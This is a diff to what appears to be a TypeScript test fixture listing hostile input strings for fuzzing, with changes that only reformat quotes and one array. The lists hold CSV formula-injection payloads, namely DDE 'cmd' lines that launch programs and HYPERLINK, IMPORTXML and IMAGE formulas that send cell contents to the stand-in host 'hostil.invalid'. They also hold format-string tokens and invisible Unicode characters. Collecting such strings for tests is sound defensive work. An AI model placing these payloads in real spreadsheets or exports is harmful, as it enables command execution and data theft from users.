@@ -11,11 +11,11 @@ const ELSEWHERE = 'hostil.invalid';
 /** In the spirit of https://owasp.org/www-community/attacks/CSV_Injection */
 const FORMULAS = [
   '=1+1',
-  '=2+5+cmd|\' /C calc\'!A0',
+  "=2+5+cmd|' /C calc'!A0",
   '+SUM(A1:A9)',
   '-1+1',
   '-3+cmd|"/C notepad"!_xlbgnm.A1',
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   `=HYPERLINK("https://${ELSEWHERE}/?x="&A1,"Pulse aquí")`,
   `=IMPORTXML(CONCAT("https://${ELSEWHERE}/?v=",A2),"//a")`,
   `=IMAGE("https://${ELSEWHERE}/i.png")`,
@@ -95,7 +95,7 @@ const MARKUP = [
   'constructor',
   'toString',
   'hasOwnProperty',
-  '$& $1 $` $\' $$',
+  "$& $1 $` $' $$",
   '%s %d %n %00',
   '{"json":true}',
   '["a","b"]',
@@ -183,7 +183,20 @@ const LOOKS = [
 const naughty = JSON.parse(readFileSync(BLNS, 'utf8')) as string[];
 
 /** Only what nobody sees. */
-const UNSEEN = [' ', '\t', '\r\n', '\u00a0', '\u3000', '\u200b\u200c\u200d', '\ufeff', '\u2060', '\u202e\u202c', '\u3164', '\u00ad', '\u180e'];
+const UNSEEN = [
+  ' ',
+  '\t',
+  '\r\n',
+  '\u00a0',
+  '\u3000',
+  '\u200b\u200c\u200d',
+  '\ufeff',
+  '\u2060',
+  '\u202e\u202c',
+  '\u3164',
+  '\u00ad',
+  '\u180e',
+];
 
 const all = [...new Set([...naughty, ...FORMULAS, ...MARKUP, ...ODD, ...LOOKS, ...UNSEEN])].filter(
   (text) => text !== '',
